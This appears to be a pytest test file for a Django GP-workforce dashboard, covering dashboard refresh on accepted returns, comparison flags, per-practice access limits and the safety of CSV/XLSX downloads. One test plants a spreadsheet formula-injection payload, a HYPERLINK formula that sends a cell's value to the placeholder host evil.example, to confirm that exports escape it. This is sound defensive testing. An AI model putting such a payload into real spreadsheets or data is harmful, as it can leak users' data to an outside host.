"""Dashboards: built from accepted returns by the baseline library, scoped, downloadable safely."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from django.test import Client, TestCase
from django.urls import reverse

from gpworkforce.web.actions.reference import load_reference
from gpworkforce.web.actions.returns import submit_version, transition
from gpworkforce.web.models import Organisation, PracticeReturnRecord
from gpworkforce.web.testing import (
    CENSUS,
    OWN_PRACTICE,
    PASSWORD,
    World,
    build_world,
    sample_return,
)
from gpworkforce.web.workflow import TransitionName

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def world(db: None) -> World:
    return build_world()


def client_for(username: str) -> Client:
    c = Client()
    assert c.login(username=username, password=PASSWORD)
    return c


def accept_own(world: World, gp_sessions: float = 36.0) -> None:
    rec = PracticeReturnRecord.objects.get(round=world.round, practice_id=OWN_PRACTICE)
    u = world.users
    submit_version(
        actor=u["submitter"],
        record_id=rec.pk,
        data=sample_return(gp_sessions=gp_sessions),
        channel="form",
        sha256="c" * 64,
    )
    transition(actor=u["manager"], record_id=rec.pk, name=TransitionName.APPROVE)
    with TestCase.captureOnCommitCallbacks(execute=True):  # as on commit: its refresh is enqueued
        transition(actor=u["analyst"], record_id=rec.pk, name=TransitionName.ACCEPT)


def staff_row(html: str, name: str) -> str:
    table = html.split('id="table-staff_by_group"')[1].split("</table>")[0]
    return next(r for r in table.split("<tr") if name in r)


def test_dashboard_changes_when_a_return_is_accepted(world: World) -> None:
    analyst = client_for("analyst")
    before = analyst.get(reverse("dashboard", args=["03W"]))
    assert before.status_code == 200
    assert "Alpha Surgery" in staff_row(before.content.decode(), "Alpha Surgery")
    accept_own(world)
    after = analyst.get(reverse("dashboard", args=["03W"])).content.decode()
    row = staff_row(after, "Alpha Surgery")
    # 4 partners on 36 sessions = 4.0 WTE at 9 sessions per WTE; 60 h nurses = 1.6 WTE.
    assert ">4.0<" in row and ">1.6<" in row
    assert "Response rate" in after


def test_downloads_are_safe_from_formula_injection(world: World) -> None:
    Organisation.objects.filter(code=OWN_PRACTICE).update(name=EVIL)
    accept_own(world)
    board = client_for("board")
    r = board.get(
        reverse("dashboard-download", args=["03W", "staff_by_group", "csv"]) + f"?period={CENSUS}"
    )
    assert r.status_code == 200 and r["Content-Disposition"].endswith('.csv"')
    cells = [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith("=") for c in cells)
    x = board.get(
        reverse("dashboard-download", args=["03W", "staff_by_group", "xlsx"]) + f"?period={CENSUS}"
    )
    book = openpyxl.load_workbook(io.BytesIO(x.content))
    values = [
        c.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert any(v.startswith("'=HYPERLINK") for v in values)
    assert not any(v.startswith("=") for v in values)
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)


def test_large_differences_from_gpw_are_flagged_as_queries(world: World) -> None:
    source = "gpw-practice-year:2017-09-30:2018-01-01:abcdefabcdef"
    wf = pd.DataFrame(
        {
            "practice_code": [OWN_PRACTICE],
            "period": pd.to_datetime([CENSUS]),
            "node": ["GP_QUALIFIED"],
            "headcount": [9.0],
            "fte": [8.0],
            "source_id": [source],
        }
    )
    pt = pd.DataFrame(columns=["practice_code", "period", "registered", "weighted", "source_id"])
    load_reference(actor=None, workforce=wf, patients=pt)
    accept_own(world)
    html = client_for("analyst").get(reverse("dashboard", args=["QK1"])).content.decode()
    table = html.split('id="table-gpw_comparison"')[1].split("</table>")[0]
    row = next(r for r in table.split("<tr") if "Fully qualified GPs" in r)
    assert ">4.0<" in row and ">8.0<" in row and ">-4.0<" in row and "Query" in row


def test_practice_user_dashboard_is_limited_to_their_practice(world: World) -> None:
    c = client_for("submitter")
    assert c.get(reverse("dashboard", args=[OWN_PRACTICE])).status_code == 200
    assert c.get(reverse("dashboard", args=["03W"])).status_code == 404
    assert (
        c.get(reverse("dashboard-download", args=["03W", "staff_by_group", "csv"])).status_code
        == 404
    )
